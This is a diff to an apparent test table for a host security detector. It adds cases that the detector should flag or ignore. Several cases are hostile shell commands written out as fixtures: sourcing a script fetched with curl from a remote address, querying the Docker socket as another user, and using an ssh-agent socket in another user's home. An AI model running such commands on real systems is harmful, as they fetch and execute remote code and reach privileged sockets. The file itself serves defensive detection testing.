@@ -129,6 +129,11 @@ const pipes: readonly Piece[] = [
     `as 33 bash -c 'curl -s http://203.0.113.9:8080/p.sh | bash'`,
     { needs: ['curl'] },
   ),
+  fires(
+    'pipe/download-piped-into-shell',
+    `as 33 bash -c 'source <(curl -s http://203.0.113.9:8080/p.sh)'`,
+    { needs: ['curl'], name: 'sourced' },
+  ),
   silent(
     'pipe/download-piped-into-shell',
     `bash -c 'curl -s http://203.0.113.9:8080/p.sh | grep -c id'`,
@@ -354,6 +359,16 @@ const sockets: readonly Piece[] = [
     { needs: ['ssh-agent', 'ssh-add'], name: 'own' },
   ),
   fires(
+    'unix-socket/agent-socket-of-another-user',
+    'mkdir -p /home/ana/.ssh; chown -R 65534 /home/ana; setpriv --reuid=65534 --regid=65534 --clear-groups ssh-agent -D -a /home/ana/.ssh/agent.sock & A=$!; sleep 0.3; SSH_AUTH_SOCK=/home/ana/.ssh/agent.sock ssh-add -l; kill $A; rm -r /home/ana',
+    { needs: ['ssh-agent', 'ssh-add'], name: 'elsewhere' },
+  ),
+  silent(
+    'unix-socket/agent-socket-of-another-user',
+    'eval "$(ssh-agent)"; ssh-add -l; kill $SSH_AGENT_PID',
+    { needs: ['ssh-agent', 'ssh-add'], name: 'of-root' },
+  ),
+  fires(
     'unix-socket/calls-of-two-architectures',
     known('a connection by the calls of a 32-bit program'),
   ),
@@ -372,6 +387,11 @@ const sockets: readonly Piece[] = [
     'as 33 curl -s --unix-socket /run/docker.sock http://x/containers/json',
     { needs: ['curl'], name: 'curl' },
   ),
+  silent(
+    'unix-socket/container-runtime-reached',
+    'curl -s --unix-socket /run/docker.sock http://localhost/version',
+    { needs: ['curl'], name: 'health-check' },
+  ),
   fires(
     'unix-socket/container-runtime-reached-by-other-program',
     'mkdir -p /srv/bin; cp ipc /srv/bin/ctl; /srv/bin/ctl hold /run/containerd/containerd.sock & sleep 0.3; kill $!; rm -r /srv/bin',
@@ -386,6 +406,14 @@ const sockets: readonly Piece[] = [
     // A server stands in for Podman: it runs a program when it is asked to.
     `mkdir /run/podman; perl -MIO::Socket::UNIX -e '$s=IO::Socket::UNIX->new(Local=>"/run/podman/podman.sock",Listen=>1);chmod 0666,"/run/podman/podman.sock";$c=$s->accept;<$c>;system("/bin/sh","-c","sleep 0.1");print $c "HTTP/1.0 204 No Content\\r\\n\\r\\n"' & while [ ! -S /run/podman/podman.sock ]; do sleep 0.1; done; as 33 curl -s --unix-socket /run/podman/podman.sock -X POST http://x/containers/4f1/start; wait`,
     { needs: ['curl', 'perl'] },
+  ),
+  fires('unix-socket/descriptor-passed-across-users', './ipc hand', {
+    sensor: 'ebpf',
+  }),
+  silent(
+    'unix-socket/descriptor-passed-across-users',
+    known('a descriptor that is passed'),
+    { sensor: 'ebpf', name: 'own-child' },
   ),
   fires(
     'unix-socket/host-folder-given-to-container',
